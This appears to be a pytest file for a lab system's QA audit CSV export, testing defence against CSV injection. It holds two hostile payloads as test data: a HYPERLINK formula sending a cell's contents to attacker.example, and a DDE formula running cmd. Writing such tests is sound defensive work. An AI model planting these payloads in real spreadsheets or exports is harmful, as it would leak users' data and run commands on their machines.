"""The QA CSV export never hands a spreadsheet a formula (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io

from helpers import register, sign_in

from lims import reports

# (a typed username is kept up to 64 characters)
HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
DDE = "=cmd|' /C calc'!A0"


def _export(client, headers) -> list[dict[str, str]]:  # noqa: ANN001
    body = client.get("/api/audit/export.csv", headers=headers).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body)))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_a_username_and_a_reason_typed_as_formulas_export_as_text(app, client, auth):
    # A failed sign-in records the username that was typed; a correction records its reason.
    assert sign_in(app.test_client(), HYPERLINK, "wrong-password").status_code == 401
    tech, qa = auth("tech1"), auth("qa1")
    s = register(client, tech)
    r = client.post(
        f"/api/samples/{s['barcode']}/corrections",
        json={"volume": 4.5, "reason": DDE, "version": s["version"]},
        headers=tech,
    )
    assert r.status_code == 201, r.json

    rows = _export(client, qa)
    cells = [v for row in rows for v in row.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(v == "'" + HYPERLINK for v in cells), "the typed username is kept, as text"
    assert any(row["reason"] == "'" + DDE for row in rows)


def test_neutralising_is_reversible_and_leaves_other_text_alone():
    for value in ("=1+1", "+1", "-5 mL spilled", "@SUM(A1)", "\tx", "\ry", "'=x", "'plain"):
        cell = reports.csv_text([(value,)]).strip("\r\n").strip('"')
        assert cell.startswith("'")
        assert cell[1:].replace('""', '"') == value
    assert reports.csv_text([("plain text", '{"a": 1}', 7)]) == 'plain text,"{""a"": 1}",7\r\n'
